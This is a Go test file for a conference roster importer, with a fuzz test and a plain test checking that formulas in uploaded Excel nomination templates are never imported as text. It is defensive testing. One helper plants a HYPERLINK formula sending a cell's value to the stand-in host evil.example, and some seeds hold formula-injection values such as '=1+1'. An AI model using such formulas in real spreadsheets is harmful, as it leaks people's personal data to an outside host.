package roster

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"convene/internal/convene"
)

// formulaTemplate is the template with a real formula (not text) in the
// given-name and position cells of row 3, as a hostile or careless sheet
// could hold: the import reads cell values, never formulas.
func formulaTemplate(t testing.TB) []byte {
	f, err := excelize.OpenReader(bytes.NewReader(filled(t, [][]string{{"Col."}})))
	if err != nil {
		t.Fatal(err)
	}
	for cell, v := range map[string]string{"C3": "Nguyễn", "G3": "delegate", "I3": "VNM"} {
		_ = f.SetCellStr(templateSheet, cell, v)
	}
	_ = f.SetCellFormula(templateSheet, "B3", `HYPERLINK("http://evil.example/?leak="&J3,"Thị Lan")`)
	_ = f.SetCellFormula(templateSheet, "F3", `CONCATENATE("Deputy ","Director")`)
	var out bytes.Buffer
	if _, err := f.WriteTo(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// FuzzReadTemplate feeds arbitrary bytes (and mutations of real filled-in
// templates, the committed corpus) to the nomination import: never a panic
// or an internal error, only rows or per-row problems, never both; every
// row returned passes the same validation as the nomination form; problems
// name a row; and no formula held in a cell is ever imported as its text.
func FuzzReadTemplate(f *testing.F) {
	good := []string{"Col.", "Thị Lan", "Nguyễn", "yes", "", "Deputy Director", "delegate", "", "VNM", "C7654321", "2031-05-31"}
	mono := []string{"", "မောင်မောင်", "", "", "", "=1+1", "adviser", "", "MMR", "", "", "", "", "+95 9 123", "other", "@SUM(A1)", "-medical"}
	f.Add(filled(f, [][]string{good, mono}))
	f.Add(filled(f, [][]string{{"", "สมชาย", "วงศ์สกุล", "maybe", "", "", "chief", "", "THA", "C7654321", "2025-03-01"}, good}))
	f.Add(formulaTemplate(f))
	f.Add(filled(f, nil))
	f.Add([]byte("PK\x03\x04not really a zip"))
	f.Add([]byte("Given name,Family name\n=1+1,x\n"))
	m := convene.Meeting{StartDate: convene.Date{Year: 2025, Month: 2, Day: 26}, EndDate: convene.Date{Year: 2025, Month: 2, Day: 27}}
	today := convene.Date{Year: 2025, Month: 1, Day: 10}
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, problems, err := ReadTemplate(bytes.NewReader(data), m, today, testAirports)
		if err != nil {
			if convene.ErrorCode(err) != convene.ETOOLARGE {
				t.Fatalf("internal error: %v", err)
			}
			return
		}
		if (len(rows) == 0) == (len(problems) == 0) {
			t.Fatalf("%d rows and %d problems: want exactly one of them", len(rows), len(problems))
		}
		for _, p := range problems {
			if p.Row < 0 || p.Message == "" {
				t.Fatalf("problem without a row or message: %+v", p)
			}
		}
		for _, r := range rows {
			if err := r.Validate(m, today); err != nil {
				t.Fatalf("imported row fails validation: %v", err)
			}
		}
		if len(rows) == 0 {
			return
		}
		// The formulas the file holds, if any, as the sheet would show them.
		x, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatalf("rows imported from a file excelize cannot open: %v", err)
		}
		defer x.Close()
		cells, _ := x.GetRows(templateSheet, excelize.Options{RawCellValue: true})
		for i, row := range cells {
			for j := range row {
				name, _ := excelize.CoordinatesToCellName(j+1, i+1)
				formula, _ := x.GetCellFormula(templateSheet, name)
				if strings.TrimSpace(formula) == "" {
					continue
				}
				for _, r := range rows {
					for _, v := range []string{r.Honorific, r.GivenName, r.FamilyName, r.BadgeName, r.Position,
						r.Nationality, r.PassportNumber, r.Email, r.Mobile, r.DietaryOther, r.Medical} {
						if v != "" && (v == formula || v == "="+formula) {
							t.Fatalf("cell %s's formula %q was imported as text", name, formula)
						}
					}
				}
			}
		}
	})
}

// TestFormulaCellsAreNotImported is the formula seed as a plain test: the
// given name and position held as formulas (with no cached value) arrive
// empty, never as the formula's text.
func TestFormulaCellsAreNotImported(t *testing.T) {
	m := convene.Meeting{StartDate: convene.Date{Year: 2025, Month: 2, Day: 26}, EndDate: convene.Date{Year: 2025, Month: 2, Day: 27}}
	rows, problems, err := ReadTemplate(bytes.NewReader(formulaTemplate(t)), m, convene.Date{Year: 2025, Month: 1, Day: 10}, testAirports)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range problems {
		if strings.Contains(p.String(), "HYPERLINK") || strings.Contains(p.String(), "CONCATENATE") {
			t.Errorf("a problem quotes the formula: %s", p)
		}
	}
	for _, r := range rows {
		if r.GivenName != "" || r.Position != "" || r.FamilyName != "Nguyễn" {
			t.Errorf("formula cells imported as given name %q, position %q", r.GivenName, r.Position)
		}
	}
	if len(rows)+len(problems) == 0 {
		t.Error("neither rows nor problems")
	}
}
